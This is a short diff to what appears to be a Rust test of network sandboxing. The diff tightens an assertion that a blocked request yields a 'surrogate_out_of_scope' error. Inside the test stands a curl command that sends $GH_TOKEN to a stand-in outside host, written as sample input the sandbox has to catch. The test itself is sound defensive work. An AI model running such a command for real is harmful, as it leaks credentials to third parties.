@@ -67,7 +67,7 @@ on_every_engine! {
              curl -sS \"https://other.example.com/?q=$GH_TOKEN\"",
         );
         let ended = run.succeed();
-        assert_eq!(ended.stdout.matches("surrogate_out_of_scope").count(), 3, "{ended:?}");
+        assert_eq!(ended.stdout.matches("\"error\":\"surrogate_out_of_scope\"").count(), 3, "{ended:?}");
         assert_eq!(run.network_log().matches("ALARM").count(), 3, "{}", run.network_log());
         assert_eq!(origin.connections(), 0);
     }
